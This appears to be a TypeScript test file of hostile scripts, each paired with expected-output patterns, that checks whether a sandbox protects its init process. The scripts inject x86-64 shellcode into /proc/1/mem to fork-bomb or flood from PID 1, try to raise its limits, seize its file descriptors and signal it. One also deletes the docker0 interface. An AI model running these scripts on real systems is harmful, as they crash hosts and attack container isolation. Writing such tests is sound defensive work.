// The world's first process is in the script's reach: its memory, its descriptors. What limits the script must limit it too.

import { asServer, type Hostile } from "../hostile.ts";

// x86-64, written over what the first process does next: it starts 600 others, and each of them and it itself go in a circle
const forks = `
import os, time
code = bytes.fromhex("bb58020000" "b839000000" "0f05" "85c0" "7404" "ffcb" "75f1" "ebfe")
at = int(open("/proc/1/syscall").read().split()[-1], 16)
memory = open("/proc/1/mem", "r+b", buffering=0)
memory.seek(at); memory.write(code)
os.system("(sleep 0.1 &)"); time.sleep(1)
print("processes", len([pid for pid in os.listdir("/proc") if pid.isdigit()]))
print("niceness", open("/proc/1/stat").read().rsplit(")", 1)[1].split()[16])
print(open("/proc/1/limits").read(), flush=True)
time.sleep(60)`;

// x86-64: it writes its own code to its descriptors 10 and 0 without end
const floods = `
import os, time
code = bytes.fromhex("488d3500000000" "ba00100000" "bf0a000000" "b801000000" "0f05" "bf00000000" "b801000000" "0f05" "ebe6")
at = int(open("/proc/1/syscall").read().split()[-1], 16)
memory = open("/proc/1/mem", "r+b", buffering=0)
memory.seek(at); memory.write(code)
os.system("(sleep 0.1 &)"); time.sleep(60)`;

/** Those that bring code, or a number of a call, for this sort of processor alone. */
const x64 = ["floods-the-grader-from", "starts-others-from", "makes-the-first-process-forget", "adopts-what"];

const all: Hostile[] = [
  { name: "floods-the-grader-from-the-first-process", ending: ".py", script: floods },
  {
    name: "starts-others-from-the-first-process",
    ending: ".py",
    script: forks,
    ended: /more than|world/,
    says: /processes (1?\d?\d|2[0-5]\d)\nniceness 19/,
  },
  {
    name: "limits-of-the-first-process",
    isShort: true,
    script: `cat /proc/1/limits; for n in nofile nproc fsize data; do prlimit --pid 1 --$n=unlimited && echo "raised $n"; done; true`,
    says: /Max processes +256 +256[\s\S]*Max open files +1024 +1024/,
    hides: /raised/,
  },
  {
    name: "writes-to-the-first-processes-sockets",
    ending: ".py",
    script: `
import array, ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
first = os.pidfd_open(1)
opened = []
for fd in os.listdir("/proc/1/fd"):
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_PATH):
        try: opened.append(os.open(f"/proc/1/fd/{fd}", flags | os.O_NONBLOCK))
        except OSError: pass
    if libc.syscall(438, first, int(fd), 0) >= 0: print("STOLEN", fd)
end = time.time() + 1
while time.time() < end:
    for fd in opened:
        try: os.write(fd, b"0\\nready\\nbegun\\n" * 5000)
        except OSError: pass
print("done")`,
    says: /done/,
    hides: /STOLEN/,
  },
  {
    name: "signals-the-first-process-by-its-descriptor",
    script: `RIGHT
python3 - <<'END'
import os, signal
first = os.pidfd_open(1)
for number in range(1, 65):
    try: signal.pidfd_send_signal(first, number)
    except OSError: pass
libc = __import__("ctypes").CDLL(None)
for call in (448, 256, 279, 440, 203, 251, 142, 144): libc.syscall(call, first, 1, 0, 0, 0, 0); libc.syscall(call, 1, 8, 0, 0, 0, 0)
END`,
    score: 16,
  },
  {
    name: "makes-the-first-process-forget-its-children",
    script: `RIGHT
${asServer(`import time
at = int(open("/proc/1/syscall").read().split()[-1], 16)
memory = open("/proc/1/mem", "r+b", buffering=0); memory.seek(at); memory.write(bytes.fromhex("ebfe"))
for i in range(200):
    if os.fork() == 0: os._exit(0)
time.sleep(60)`)}`,
  },
  {
    name: "adopts-what-the-first-process-should-get",
    script: `RIGHT
python3 - <<'END' &
import ctypes, os, time
libc = ctypes.CDLL(None)
for depth in range(20):
    libc.prctl(36, 1, 0, 0, 0)
    if os.fork(): time.sleep(60); os._exit(0)
for i in range(5):
    if os.fork() == 0:
        if os.fork(): os._exit(0)
        libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0)  # x86-64: clone(2), CLONE_PARENT
        time.sleep(4); os.system("ip link del docker0"); os._exit(0)
END
sleep 0.5`,
    score: 16,
  },
];

export const first = all.filter(({ name }) => process.arch === "x64" || !x64.some((one) => name.startsWith(one)));
